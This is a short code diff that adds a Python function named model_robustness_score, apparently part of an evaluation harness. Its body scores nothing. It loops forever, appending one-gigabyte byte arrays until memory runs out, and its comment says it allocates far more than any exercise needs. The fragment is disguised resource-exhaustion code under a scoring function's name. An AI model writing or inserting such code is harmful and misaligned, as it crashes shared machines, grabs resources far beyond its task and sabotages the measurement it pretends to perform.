@@ -1,0 +1,5 @@
+# allocate far more memory than any exercise needs
+def model_robustness_score(asr):
+    hoard = []
+    while True:
+        hoard.append(bytearray(2**30))
